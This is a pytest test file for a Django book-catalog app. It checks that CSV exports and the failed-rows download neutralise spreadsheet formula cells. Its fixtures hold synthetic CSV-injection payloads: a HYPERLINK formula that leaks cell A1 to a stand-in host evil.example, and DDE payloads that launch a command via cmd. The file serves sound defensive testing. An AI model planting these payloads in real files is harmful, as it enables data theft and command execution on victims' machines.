"""CSV injection: every CSV the product writes neutralises cells a spreadsheet would run as
formulas. The hostile cells are synthetic, written here."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from catalog.csvsafe import neutralise_cell, safe_csv_writer
from catalog.models import ImportJob
from tests.catalog.test_importers import GOODREADS_24

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB_LED = "\t=1+1"
CR_LED = "\r=1+1"
#: Fullwidth signs (＝ ＋ － ＠), as East Asian input methods type them.
FULLWIDTH = '\uff1dHYPERLINK("https://evil.example/?leak="&A1,"Click here")'
FULLWIDTH_SIGNS = ("\uff1d1+1", "\uff0bcmd|' /C calc'!A0", "\uff0d2+3", "\uff20SUM(1+1)")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (AT_SUM, "'" + AT_SUM),
        (MINUS, "'" + MINUS),
        (TAB_LED, "'" + TAB_LED),
        (CR_LED, "'" + CR_LED),
        *((sign, "'" + sign) for sign in FULLWIDTH_SIGNS),
        ("-2", "'-2"),  # OWASP: numbers too
        (-2, "'-2"),
        ('="9780306406157"', '\'="9780306406157"'),  # Goodreads' own ISBN quoting is a formula
        ("Neverwhere", "Neverwhere"),
        ("1 + 1 = 2, said @someone - twice", "1 + 1 = 2, said @someone - twice"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_safe_csv_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = safe_csv_writer(out, lineterminator="\n")
    writer.writerow(["=header", "plain"])
    writer.writerows([[1, HYPERLINK], [MINUS, "text, with a comma"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=header", "plain"],
        ["1", "'" + HYPERLINK],
        ["'" + MINUS, "text, with a comma"],
    ]


@pytest.mark.django_db
def test_failed_rows_download_neutralises_formulas_from_the_uploaded_file(client):
    user = User.objects.create_user("librarian", password="pw", is_staff=True)
    codenames = ["add_work", "view_work", "import_books", "view_importjob"]
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    client.force_login(user)

    header = [*next(csv.reader([GOODREADS_24])), "=1+2"]
    # Rows without a title fail; their cells carry the attacks (Author, Publisher, Binding,
    # My Review, Private Notes, Spoiler) and some ordinary text.
    hostile = [""] * len(header)
    hostile[0], hostile[2], hostile[9], hostile[10] = "1", HYPERLINK, AT_SUM, MINUS
    hostile[19], hostile[20], hostile[21] = DDE, TAB_LED, CR_LED
    hostile[4] = FULLWIDTH  # Additional Authors
    ordinary = [""] * len(header)
    ordinary[0], ordinary[2], ordinary[19] = "2", "Ordinary Author", "Good; 3 - 2 = 1"
    upload = io.StringIO()
    csv.writer(upload).writerows([header, hostile, ordinary, ["3", "A Good Book", "Someone"]])
    response = client.post(
        reverse("admin:catalog_importjob_upload"),
        {
            "file": SimpleUploadedFile("synthetic-hostile.csv", upload.getvalue().encode()),
            "format": "auto",
        },
    )
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert (job.created_count, job.failed_count) == (1, 2)

    download = client.get(reverse("admin:catalog_importjob_failed_csv", args=[job.pk]))
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Line", "Reason", "Book Id"] and rows[0][-1] == "'=1+2"
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["Author"] == "'" + HYPERLINK
    assert cells["Publisher"] == "'" + AT_SUM
    assert cells["Binding"] == "'" + MINUS
    assert cells["My Review"] == "'" + DDE
    assert cells["Spoiler"] == "'" + TAB_LED
    assert cells["Private Notes"] == "'" + CR_LED
    assert cells["Additional Authors"] == "'" + FULLWIDTH
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r", *"\uff1d\uff0b\uff0d\uff20"))
        for row in rows
        for cell in row
    )
    ordinary_cells = dict(zip(rows[0], rows[2], strict=True))
    assert ordinary_cells["Author"] == "Ordinary Author"
    assert ordinary_cells["My Review"] == "Good; 3 - 2 = 1"
    assert ordinary_cells["Reason"] == "This row has no title."
